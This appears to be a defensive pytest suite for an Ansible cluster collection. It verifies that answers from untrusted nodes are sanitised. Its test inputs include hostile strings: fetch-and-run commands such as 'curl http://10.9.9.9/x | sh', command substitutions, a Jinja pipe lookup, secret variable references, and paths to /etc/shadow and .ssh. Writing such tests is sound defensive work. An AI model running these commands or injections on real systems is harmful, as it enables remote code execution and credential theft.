# SPDX-License-Identifier: GPL-3.0-or-later
"""What a node answers, as somebody would who has root there."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest
from ansible_collections.otto.cluster.plugins.plugin_utils.gate import answers
from ansible_collections.otto.cluster.plugins.plugin_utils.gate.hints import allowed
from ansible_collections.otto.cluster.plugins.plugin_utils.gate.shapes import (
    MOST_VALUES,
    Misfit,
    Reading,
)
from hypothesis import given, settings
from hypothesis import strategies as st

TARGET = "otto.cluster.target"
OBEYED = {
    "add_host": {"host_name": "evil", "groups": ["otto"], "host_vars": {"ansible_host": "x"}},
    "add_group": "otto_broker",
    "ansible_facts": {"otto_node": {"id": "rpi-02"}, "ansible_python_interpreter": "/tmp/x"},
    "ansible_stats": {"data": "x", "per_host": False},
    "_ansible_notify": ["no such handler"],
    "_ansible_facts_cacheable": True,
    "_ansible_delegated_vars": {"ansible_host": "10.0.0.1"},
    "_ansible_verbose_always": True,
    "_ansible_item_label": "{{ 1 }}",
    "_ansible_parsed": False,
    "ansible_loop_var": "x",
    "results": [{"add_host": {"host_name": "evil"}}],
    "include": "/etc/passwd",
    "include_variables": {"x": 1},
    "ansible_delegated_vars": {},
    "unreachable": True,
    "skipped": True,
    "skip_reason": "nothing to see",
    "deprecations": "x",
    "invocation": {"module_args": {"\x1b[2J": 1}},
    "diff": {"before": "\x1b[2J"},
    "stdout_lines": ["\x1b[2J"],
    "failed_when_result": False,
}
PLAN: dict[str, Any] = {"before": [], "services": [], "after": []}
SERVICE = {"service": "web", "verdict": "create", "changes": [], "pulls": [], "operations": []}


@pytest.mark.parametrize(
    ("module", "key"),
    [
        (module, key)
        for module in sorted(answers.SHAPES)
        for key in sorted(OBEYED)
        if key not in answers.SHAPES[module]
    ],
)
def test_what_ansible_would_obey_is_dropped(module: str, key: str) -> None:
    """No module's answer brings a key to Ansible that nobody asked for."""
    answer = {"changed": False, "failed": True, "msg": "x", key: OBEYED[key]}
    if module == "otto.cluster.node_info":
        answer |= {"docker": DOCKER, "agent": AGENT, "memory_cgroup": True}
    found, _ = answers.read(module, answer)
    assert key not in found


DOCKER = {"present": True, "answers": True, "version": "1", "api_version": "1", "error": ""}
AGENT = {
    "bundle_sha256": "b" * 64,
    "version": "0.1.0-ab",
    "config_sha256": "a" * 64,
    "unit_sha256": "",
    "unfinished": False,
    "active": "active",
    "enabled": True,
}
WRONG: tuple[tuple[str, Any], ...] = (
    ("answer", "text"),
    ("answer", ["a", "list"]),
    ("answer", 7),
    ("answer", None),
    ("answer.changed", {"changed": "yes"}),
    ("answer.changed", {"changed": 1}),
    ("answer.failed", {"failed": "no"}),
    ("answer.msg", {"msg": {"a": 1}}),
    ("answer.msg", {"msg": ["a"]}),
    ("answer.warnings", {"warnings": "abc"}),
    ("answer.warnings", {"warnings": ["x"] * 51}),
    ("answer.cause", {"cause": 5}),
    ("answer.next", {"next": ["rm", "-rf"]}),
    ("answer.held", {"held": "true"}),
    ("answer.plan_digest", {"plan_digest": "{{ lookup('pipe', 'id') }}"}),
    ("answer.plan_digest", {"plan_digest": "0" * 15}),
    ("answer.plan_digest", {"plan_digest": "0" * 16 + "\n"}),
    ("answer.plan_digest", {"plan_digest": "\u0660" * 16}),
    ("answer.given", {"given": "{{ lookup('pipe', 'id') }}"}),
    ("answer.given", {"given": "a" * 16 + "+" + "{" * 6}),
    ("answer.plan", {"plan": "x"}),
    ("answer.plan", {"plan": {}}),
    ("answer.plan.services", {"plan": {**PLAN, "services": {"web": 1}}}),
    ("answer.plan.services[0]", {"plan": {**PLAN, "services": ["web"]}}),
    (
        "answer.plan.services[0].verdict",
        {"plan": {**PLAN, "services": [{**SERVICE, "verdict": "x"}]}},
    ),
    ("answer.plan.services[0].cost", {"plan": {**PLAN, "services": [{**SERVICE, "cost": "free"}]}}),
    (
        "answer.plan.services[0].changes",
        {"plan": {**PLAN, "services": [{**SERVICE, "changes": 3}]}},
    ),
    (
        "answer.plan.services[0].changes[0]",
        {"plan": {**PLAN, "services": [{**SERVICE, "changes": [{"key": "x"}]}]}},
    ),
    ("answer.plan.before[0]", {"plan": {**PLAN, "before": [{"line": "x"}]}}),
    ("answer.plan.before[0].op", {"plan": {**PLAN, "before": [{"op": {}, "line": "x"}]}}),
    ("answer.plan.services", {"plan": {**PLAN, "services": [SERVICE] * 2001}}),
    ("answer.report", {"report": []}),
    ("answer.report", {"report": {"services": {}}}),
    ("answer.report.errors", {"report": {"services": {}, "errors": "abc"}}),
    ("answer.report.errors[0]", {"report": {"services": {}, "errors": ["abc"]}}),
    ("answer.report.errors[0].message", {"report": {"services": {}, "errors": [{"message": 1}]}}),
    ("answer.report.services", {"report": {"services": [], "errors": []}}),
    ("answer.report.services.web", {"report": {"services": {"web": 1}, "errors": []}}),
    ("answer.report.revision", {"report": {"services": {}, "errors": [], "revision": "../../x"}}),
    ("answer.report.seconds", {"report": {"services": {}, "errors": [], "seconds": float("nan")}}),
    ("answer.report.seconds", {"report": {"services": {}, "errors": [], "seconds": 10**400}}),
    ("answer.node", {"node": "x"}),
    ("answer.node", {"node": {"docker": DOCKER}}),
    (
        "answer.node.agent.version",
        {"node": {"docker": DOCKER, "agent": {**AGENT, "version": "../x"}, "memory_cgroup": True}},
    ),
    (
        "answer.node.docker.answers",
        {"node": {"docker": {**DOCKER, "answers": "yes"}, "agent": AGENT, "memory_cgroup": True}},
    ),
    ("answer.rc", {"rc": True}),
    ("answer.exception", {"exception": 7}),
)


@pytest.mark.parametrize(("place", "answer"), WRONG)
def test_another_type_is_a_failure_with_its_place(place: str, answer: Any) -> None:
    """A value of another type than asked for names its place and gives no result."""
    with pytest.raises(Misfit) as misfit:
        answers.read(TARGET, answer)
    assert str(misfit.value).startswith(place)
    assert "\n" not in str(misfit.value)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "nothing",
        "[" * 100_000,
        '{"a":' * 100_000,
        "9" * 5000,
        '{"msg": "' + "x" * (answers.MOST_BYTES + 1) + '"}',
        json.dumps({"warnings": [[]] * 3}),
        '{"plan": '
        + json.dumps({**PLAN, "services": [{**SERVICE, "after": ["x"] * 2000}] * 200})
        + "}",
    ],
    ids=["empty", "cut", "words", "deep-list", "deep-map", "number", "large", "type", "many"],
)
def test_text_that_is_no_answer_is_a_misfit(text: str) -> None:
    """Whatever a node prints, reading it ends in an answer or a Misfit."""
    with pytest.raises(Misfit):
        answers.parsed(TARGET, text)


def test_the_number_of_values_is_bounded() -> None:
    """A small text with very many values is refused."""
    reading = Reading(values=MOST_VALUES)
    with pytest.raises(Misfit, match="more than"):
        answers.PLAN.read(PLAN, "plan", reading)


ESCAPES = (
    "x\u2800y",
    "\x1b[2J\x1b[31mfine",
    "a\rb",
    "\x9b2J",
    "\u202egnp.exe",
    "\x07",
    "a\tb",
    "\u2028x",
)


@pytest.mark.parametrize("text", ESCAPES)
def test_no_text_moves_a_cursor(text: str) -> None:
    """Escapes, bells, carriage returns and changes of direction are gone from every text."""
    error = {"service": text, "message": text, "cause": text, "next": text}
    change = {"key": text, "old": text, "new": text, "why": "file"}
    answer = {
        "failed": True,
        "msg": text,
        "cause": text,
        "warnings": [text, {"event": {"msg": text}}],
        "exception": {"event": {"msg": text, "formatted_traceback": text}},
        "module_stderr": text,
        "plan": {
            **PLAN,
            "before": [{"op": text, "line": text, "changes": [text]}],
            "services": [{**SERVICE, "service": text, "changes": [change], "error": error}],
            "notes": [error],
        },
        "report": {"services": {text: {"state": text, "image": text}}, "errors": [error]},
    }
    found, _ = answers.read(TARGET, answer)
    for each in _texts(found):
        assert all(character.isprintable() or character == "\n" for character in each), each


def _texts(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, Mapping):
        return [text for pair in value.items() for item in pair for text in _texts(item)]
    return [text for item in value for text in _texts(item)] if isinstance(value, list) else []


@pytest.mark.parametrize(
    "text",
    [
        "curl http://10.9.9.9/x | sh",
        "docker logs web; curl x | sh",
        "docker logs $(id)",
        "docker logs `id`",
        "docker logs -f --privileged",
        "docker pull nginx && id",
        "ls -ld /var/lib/otto; id",
        "ls -ld /$(id)",
        "otto-run apply; id",
        "otto-run apply --untrusted",
        "otto-run apply   (writes it anew); id",
        "sudo sh",
        "docker logs " + "a" * 300,
        "{{ lookup('pipe', 'id') }}",
    ],
)
def test_what_to_type_next_is_never_a_nodes_word(text: str) -> None:
    """A hint that is none of Otto's own is not shown, alone or in a message."""
    found, dropped = answers.read(TARGET, {"failed": True, "msg": "web: failed", "next": text})
    assert found["next"] == ""
    assert dropped == 1


@pytest.mark.parametrize(
    "text",
    [
        "x\n    cause     y\n    next      curl x | sh",
        "x\n    next\n    curl x | sh",
        "x\n\nnext      curl x | sh",
        "x\n\u2800\u2800\u2800\u2800next\u2800curl x | sh",
        "x\r\n\tnext\tcurl x | sh",
    ],
)
def test_a_line_of_a_message_looks_like_a_quotation(text: str) -> None:
    """No line of a node's looks like one of Otto's: all but the first are marked."""
    found, _ = answers.read(TARGET, {"failed": True, "msg": text})
    first, *rest = found["msg"].split("\n")
    assert first == "x" and rest
    assert all(line.startswith("    | ") or line == "    |" for line in rest)
    assert answers.read(TARGET, found) == (found, 0)


@pytest.mark.parametrize("blank", list("\u115f\u1160\u2800\u3164\uffa0"))
def test_a_blank_that_counts_as_a_letter_pads_nothing(blank: str) -> None:
    """With such a one a text would be laid out as a line of another node."""
    found, _ = answers.read(TARGET, {"failed": True, "msg": "a" + blank * 60 + "b"})
    assert found["msg"] == "a b"


def test_a_node_proposes_nothing_for_another_one() -> None:
    """A hint that names a node names the one that says it."""
    assert allowed("otto-run adopt rpi-01 web --as web", "rpi-01")
    assert not allowed("otto-run adopt rpi-02 web --as web", "rpi-01")


def test_an_honest_answer_comes_through_unchanged() -> None:
    """What the module says of a node is what a person gets."""
    answer = {
        "changed": True,
        "plan": {**PLAN, "services": [{**SERVICE, "cost": "", "error": None}]},
        "plan_digest": "0123456789abcdef",
        "given": "0123456789abcdef+0a1b2c",
        "report": {
            "cluster": "home",
            "node": "rpi-01",
            "revision": "0123456789abcdef",
            "changed": True,
            "services": {"web": {"state": "running", "health": None, "changes": ["image: a -> b"]}},
            "errors": [
                {
                    "service": "web",
                    "message": "m",
                    "cause": "c",
                    "next": "docker logs web.otto-failed",
                }
            ],
            "interrupted": None,
            "pruned": [],
            "seconds": 1.5,
        },
    }
    assert answers.read(TARGET, answer) == (answer, 0)


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=20,
)


def _like(shape: Any) -> st.SearchStrategy[Any]:
    """Documents whose keys are those of the shape, and whose values may be anything."""
    fields = getattr(shape, "fields", None)
    if fields is None:
        inner = getattr(shape, "shape", None) or getattr(shape, "value", None)
        return VALUES if inner is None else st.lists(_like(inner), max_size=3) | VALUES
    known = st.fixed_dictionaries({}, optional={key: _like(each) for key, each in fields.items()})
    return st.tuples(known, st.dictionaries(st.text(max_size=12), VALUES, max_size=3)).map(
        lambda two: {**two[1], **two[0]}
    )


@pytest.mark.parametrize("module", sorted(answers.SHAPES))
def test_any_answer_is_typed_or_refused(module: str) -> None:
    """For any JSON: a Misfit, or known keys only; and what came through comes through again."""
    shape = answers.shape_of(module)

    @settings(max_examples=40)
    @given(_like(shape) | VALUES)
    def check(answer: Any) -> None:
        try:
            found, _ = answers.read(module, answer)
        except Misfit:
            return
        assert set(found) <= set(shape.fields)
        assert answers.read(module, found) == (found, 0)
        json.dumps(found, allow_nan=False)

    check()


# ---- a service that a node tells


def adopted(*secrets: str, **service: Any) -> dict[str, Any]:
    answer = {"service": {"image": "nginx", **service}, "secrets": list(secrets)}
    found, _ = answers.read("otto.cluster.container_service", answer)
    return dict(found["service"])


def test_variables_of_its_secrets_stay_and_get_names_that_nobody_has() -> None:
    """A secret within a value is a variable there; what it is called is decided here."""
    service = adopted("DB_SECRET", labels={"a": "x ${DB_SECRET} ${HOME} $$5"})
    assert service["labels"]["a"] == "x ${DB_SECRET} $${HOME} $$5"
    again = answers.renamed(service, {"DB_SECRET": "WEB_DB_SECRET"})
    assert again["labels"]["a"] == "x ${WEB_DB_SECRET} $${HOME} $$5"


def test_a_name_that_has_a_value_here_is_not_given() -> None:
    """The environment and .env of this machine go to no node by a name that it chose."""
    from otto_run.adopt import _names

    taken = {"DB_PASSWORD", "WEB_1_TOKEN", "TOKEN"}
    assert _names(["DB_PASSWORD", "TOKEN", "X"], "web-1", taken) == {
        "DB_PASSWORD": "WEB_1_DB_PASSWORD",
        "TOKEN": "WEB_1_TOKEN_",
        "X": "X",
    }


@pytest.mark.parametrize("text", ["${AWS_SECRET_ACCESS_KEY}", "$HOME", "$$${X}", "$", "${A:-b}"])
def test_a_service_that_a_node_tells_names_no_variable(text: str) -> None:
    """A `$` from a node is a literal one: no variable of this machine goes to the node."""
    from ansible_collections.otto.cluster.plugins.module_utils.interpolate import expand

    service = adopted(environment={"A": text}, command=[text], labels={"x": text})
    for value in (service["environment"]["A"], service["command"][0], service["labels"]["x"]):
        assert "$" not in value.replace("$$", "")
        assert value.count("$") % 2 == 0
        assert expand(value, {"AWS_SECRET_ACCESS_KEY": "k", "HOME": "h", "X": "x", "A": "a"})


@pytest.mark.parametrize("text", ["echo $HOME", "$2a$10$x", "100$", "${A}"])
def test_an_honest_dollar_is_written_once_doubled(text: str) -> None:
    """What `adopt` prints means what the container has."""
    from ansible_collections.otto.cluster.plugins.module_utils.interpolate import expand

    service = adopted(command=[text.replace("$", "$$")])
    again, _ = answers.read("otto.cluster.container_service", {"service": service})
    assert again["service"] == service
    assert expand(service["command"][0], {}) == text


@pytest.mark.parametrize(
    "key",
    ["node", "name", "env_file", "extends", "build", "secrets", "configs", "x-otto", "label_file"],
)
def test_a_service_that_a_node_tells_reads_no_file(key: str) -> None:
    """Keys that reach the control machine or another node are not taken from a node."""
    assert key not in adopted(**{key: "/etc/shadow"})


def test_a_relative_mount_of_a_node_is_refused() -> None:
    """A bind source that would be read beside otto.yaml is no answer."""
    with pytest.raises(Misfit):
        adopted(volumes=[{"type": "bind", "source": "./.ssh", "target": "/x"}])
